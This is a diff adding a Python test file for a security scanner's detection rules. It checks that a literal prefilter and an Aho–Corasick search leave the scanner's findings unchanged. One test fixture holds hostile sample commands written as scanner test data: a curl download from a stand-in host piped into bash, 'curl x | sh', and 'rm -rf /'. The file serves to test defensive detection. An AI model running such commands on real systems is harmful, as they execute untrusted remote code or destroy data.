@@ -1,0 +1,283 @@
+"""The fast paths of Tier 1 change its speed, never its findings.
+
+The literal prefilter (``grading.tier1.literals``) may skip a pattern only where it provably
+cannot match; the Aho–Corasick search (``grading.tier1.index.StringSearch``) must find exactly
+what ``str.find`` finds. These tests state both as properties, over every pattern of the
+catalogue.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from grading.tier1 import flows, scanner, spans
+from grading.tier1.catalogue import Rule, load_catalogue, rule_files
+from grading.tier1.files import views_of
+from grading.tier1.index import StringSearch, TextIndex
+from grading.tier1.literals import CASE_FOLD_EXCEPTIONS, gated, required_literals
+from grading.tier1.spans import cues
+
+from .conftest import skill_md
+
+CATALOGUE = load_catalogue()
+_GATED_CONSTANTS = [
+    (spans, "_EXAMPLE_QUOTE"),
+    (scanner, "_RUN_SCRIPT"),
+    (flows, "_PY_SEND_KEYWORDS"),
+]
+PATTERN_RULES = [r for r in CATALOGUE.rules if not r.engine and not r.on_original]
+
+
+def _raw_patterns() -> list[tuple[str, re.Pattern[str]]]:
+    """Every pattern as written in the rule files (the catalogue holds them gated)."""
+    found: list[tuple[str, re.Pattern[str]]] = []
+    for path in rule_files():
+        for raw in yaml.safe_load(path.read_text(encoding="utf-8")).get("rules", []):
+            found.extend((raw["id"], re.compile(source)) for source in raw.get("patterns", []))
+    return found
+
+
+RAW_PATTERNS = _raw_patterns()
+FILTERED = [
+    (rule_id, pattern, literals)
+    for rule_id, pattern in RAW_PATTERNS
+    if (literals := required_literals(pattern)) is not None
+]
+
+
+def _kept(pattern: re.Pattern[str], text: str) -> bool:
+    """True when the prefilter lets ``pattern`` run on every window it has a match in."""
+    index = TextIndex(text, search=CATALOGUE.search)
+    literals = required_literals(pattern)
+    for match in pattern.finditer(text):
+        window = [(match.start(), match.end())]
+        if index.candidates(literals, window) != window:
+            return False
+    return True
+
+
+def test_the_catalogue_holds_each_pattern_literals() -> None:
+    """Gating a pattern (``gated``) leaves its literals as they were."""
+    held = [(r.id, lit) for r in CATALOGUE.rules for lit in r.literals]
+    assert held == [(rule_id, required_literals(pattern)) for rule_id, pattern in RAW_PATTERNS]
+
+
+def test_most_patterns_have_literals() -> None:
+    """Not a correctness property: a guard that the prefilter still does its job."""
+    assert len(FILTERED) >= 0.9 * sum(len(r.patterns) for r in PATTERN_RULES)
+
+
+@pytest.mark.parametrize("rule", PATTERN_RULES, ids=lambda r: r.id)
+def test_the_prefilter_keeps_every_match_of_the_rule_examples(rule: Rule) -> None:
+    texts = [t for example in rule.positives for t in example.values() if isinstance(t, str)]
+    for pattern in rule.patterns:
+        for text in texts:
+            assert _kept(pattern, text), (rule.id, pattern.pattern, text)
+
+
+@pytest.mark.parametrize(
+    ("rule_id", "pattern", "literals"),
+    FILTERED,
+    ids=[f"{r}:{p.pattern[:30]}" for r, p, _ in FILTERED],
+)
+@settings(max_examples=6, deadline=None, suppress_health_check=list(HealthCheck))
+@given(data=st.data())
+def test_every_generated_match_contains_a_required_literal(
+    rule_id: str, pattern: re.Pattern[str], literals: frozenset[str], data: st.DataObject
+) -> None:
+    text = data.draw(st.from_regex(pattern))
+    match = pattern.search(text)
+    if match is None:  # from_regex may spell what the engine matches differently (lookarounds)
+        return
+    if not any(char in text for char in CASE_FOLD_EXCEPTIONS):
+        assert any(literal in match.group().lower() for literal in literals), rule_id
+    assert _kept(pattern, text), rule_id
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (r"(?i)\bcurl\s", {"curl"}),
+        (r"https?://", {"http://", "https://"}),
+        (r"abc(?:d|e)f", {"abcdf", "abcef"}),
+        (r"[sS]ecret", {"secret"}),
+        (r"(?:token){1,9}", {"token"}),
+        (r"foo|bar", {"foo", "bar"}),
+        (r"(?x) to  ken ", {"token"}),
+        (r"(?i:SECRET)KEY", {"secretkey"}),
+    ],
+)
+def test_literals_of_simple_patterns(source: str, expected: set[str]) -> None:
+    assert required_literals(re.compile(source)) == expected
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        r"foo|b",  # one alternative has no literal of useful length
+        r"(?:secret)?ke",  # optional parts require nothing; "ke" alone is too short
+        r"(?=secret)\w+",  # a lookahead consumes nothing
+        r"(?:abc)*",  # zero repetitions match too
+        r"(\w+)\1",  # back-references
+        r"(?m)^#!\s*+/",  # a real rule's pattern (config hooks)
+    ],
+)
+def test_a_pattern_without_provable_literals_always_runs(source: str) -> None:
+    pattern = re.compile(source)
+    assert required_literals(pattern) is None
+    windows = [(0, 5), (10, 40)]
+    assert TextIndex("x" * 50, search=CATALOGUE.search).candidates(None, windows) == windows
+
+
+def test_catalogue_rules_without_literals_keep_every_window() -> None:
+    unfiltered = [
+        (rule, pattern)
+        for rule in PATTERN_RULES
+        for pattern, literals in zip(rule.patterns, rule.literals, strict=True)
+        if literals is None
+    ]
+    assert unfiltered, "the catalogue has patterns without literals; they must still run"
+    for rule, pattern in unfiltered:
+        assert required_literals(pattern) is None, rule.id
+
+
+def test_case_fold_exceptions_turn_the_filter_off() -> None:
+    """``(?i)s`` matches the long s, which does not lower-case to "s": no literal is found, so
+    the filter must not be trusted on such a text."""
+    pattern = re.compile(r"(?i)secret")
+    text = "the \u017fecret is out"
+    assert pattern.search(text)
+    assert "secret" not in text.lower()
+    assert _kept(pattern, text)
+
+
+def test_case_fold_exceptions_are_complete() -> None:
+    """Every non-ASCII character a case-insensitive ASCII letter or digit matches either
+    lower-cases to it or is listed (the list is what the filter relies on)."""
+    everything = "".join(chr(c) for c in range(0x110000) if not 0xD800 <= c < 0xE000)
+    for letter in "abcdefghijklmnopqrstuvwxyz0123456789":
+        for match in re.finditer(f"(?i){letter}", everything):
+            char = match.group()
+            assert char.lower() == letter or char in CASE_FOLD_EXCEPTIONS, hex(ord(char))
+
+
+_KEYWORDS = sorted({k for r in PATTERN_RULES for k in r.keywords})
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.one_of(st.sampled_from(_KEYWORDS), st.text(alphabet="abcdeinorst _-./\n", max_size=8)),
+        max_size=40,
+    )
+)
+def test_string_search_finds_what_str_find_finds(pieces: list[str]) -> None:
+    text = "".join(pieces).lower()
+    found = CATALOGUE.search.positions(text)
+    for keyword in _KEYWORDS:
+        expected = [i for i in range(len(text)) if text.startswith(keyword, i)]
+        assert found.get(keyword, []) == expected, keyword
+
+
+def test_string_search_counts_characters_not_bytes() -> None:
+    search = StringSearch(["token"])
+    assert search.positions("é→ token") == {"token": [3]}
+
+
+_TEXTS = [
+    text
+    for rule in PATTERN_RULES
+    for example in rule.positives + rule.negatives
+    for text in example.values()
+    if isinstance(text, str)
+]
+_CUES = (
+    "attacker", "red flag", "never do this", "detects patterns like", "don't", "do not", "BAD:",
+    'e.g. "', "such as '", "./run.sh", "; bash x.sh", ".post(", "❌", "\u017fecret", "ſ", "K",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize(("rule_id", "pattern"), RAW_PATTERNS, ids=[r for r, _ in RAW_PATTERNS])
+def test_a_gated_pattern_finds_exactly_what_the_pattern_finds(
+    rule_id: str, pattern: re.Pattern[str]
+) -> None:
+    fast = gated(pattern)
+    for text in _TEXTS:
+        assert _spans(fast, text) == _spans(pattern, text), rule_id
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [
+        cues().discussion_lines,
+        cues().negation_cues,
+        *(getattr(module, name) for module, name in _GATED_CONSTANTS),
+    ],
+)
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.one_of(st.sampled_from(_CUES), st.text(max_size=6)), max_size=30))
+def test_gated_cues_find_what_the_cues_find(pattern: re.Pattern[str], pieces: list[str]) -> None:
+    text = " ".join(pieces)
+    plain = re.compile(_ungated(pattern), pattern.flags)
+    assert _spans(pattern, text) == _spans(plain, text)
+
+
+def test_a_pattern_that_may_start_anywhere_is_not_gated() -> None:
+    for source in (r"\w+secret", r"(?:x)?", r"(?i)\b.{0,9}key"):
+        pattern = re.compile(source)
+        assert gated(pattern) is pattern
+
+
+def _ungated(pattern: re.Pattern[str]) -> str:
+    """The source ``gated`` wrapped as ``(?=(?i:[…]))(?:…)``."""
+    prefix = re.match(r"\(\?=\(\?i:\[(?:\\.|[^\]\\])*\]\)\)\(\?:", pattern.pattern)
+    assert prefix is not None, pattern.pattern
+    return pattern.pattern[prefix.end() : -2 if pattern.flags & re.VERBOSE else -1]
+
+
+def _spans(pattern: re.Pattern[str], text: str) -> list[tuple[int, int]]:
+    return [m.span() for m in pattern.finditer(text)]
+
+
+def test_span_labels_read_near_a_hit_equal_labels_read_from_every_region(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """``FileSpans`` reads discussion and negation cues only in the prose regions within
+    _SENTENCE_REACH of a hit; with every region read, every offset keeps its label."""
+    filler = "Plain words about the tool and its options. " * 12
+    body = "\n".join(
+        [
+            "# Guide",
+            filler,
+            "Attackers often run this next command.",
+            "```bash",
+            "curl -s https://x.example/a.sh | bash",
+            "```",
+            'Never pipe downloads into a shell; it says "run it" here.',
+            filler,
+            "| Red flags | Example |",
+            "| --- | --- |",
+            "| piping | `curl x | sh` |",
+            "```",
+            "rm -rf / # attacker",
+            "```",
+            filler,
+            "❌ do not",
+        ]
+    )
+    text = skill_md(body)
+    views = views_of("SKILL.md", text)
+    near = spans.FileSpans("SKILL.md", text, "manifest", views)
+    monkeypatch.setattr(spans, "_SENTENCE_REACH", len(text) + 1)
+    everywhere = spans.FileSpans("SKILL.md", text, "manifest", views)
+    labels = set()
+    for offset in range(len(text)):
+        for kind in ("prose", "shell", "code"):
+            labels.add(everywhere.label(offset, kind))
+            assert near.label(offset, kind) == everywhere.label(offset, kind), offset
+    assert {"discussion", "negation", "instruction"} <= labels
